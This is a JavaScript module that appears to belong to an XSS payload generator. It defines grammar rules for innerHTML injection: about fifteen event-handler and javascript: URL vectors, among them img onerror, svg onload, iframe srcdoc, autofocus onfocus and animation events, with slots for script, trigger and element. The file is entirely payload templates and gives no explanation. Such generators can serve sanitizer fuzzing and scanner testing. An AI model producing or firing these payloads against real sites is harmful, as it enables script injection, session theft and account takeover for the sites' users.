import { INNER_HTML } from '../context.js';
import { xssGenerator } from '../xss-generator.js';

/** Written by a script: its elements do not run, everything else does. */
export const innerHtml = xssGenerator({
  name: 'inner-html',
  contexts: [INNER_HTML],
  rules: {
    start: [
      '{open}<img src=x onerror={value}>',
      '{open}<svg><animate onbegin={value} attributeName=x dur=1s>',
      '{open}<iframe srcdoc="&lt;script&gt;{bare}&lt;/script&gt;">',
      '{open}<details open ontoggle={value}>',
      '{open}<{element} {trigger}={value}>{word}</{element}>',
      '{open}<video><source onerror={value}></video>',
      '{open}<a href="javascript:{script}">{word}</a>',
      '{open}<style>@keyframes x{}</style><{element} style=animation-name:x onanimationstart={value}>',
      '{open}<object data=javascript:{bare}>',
      '{open}<input onfocus={value} autofocus>',
      '{open}<audio src=/ onerror={value}>',
      '{open}<form><button formaction=javascript:{bare}>{word}',
      '{open}<svg><svg onload={value}>',
      '{open}<iframe src=javascript:{bare}></iframe>',
      '{open}<marquee onstart={value}>{word}',
    ],
    trigger: ['onclick', 'onmouseover', 'onpointerdown', 'onkeydown', 'oncopy', 'onwheel', 'onmouseenter'],
    value: ['{bare}', '"{script}"', "'{bare}'"],
  },
});
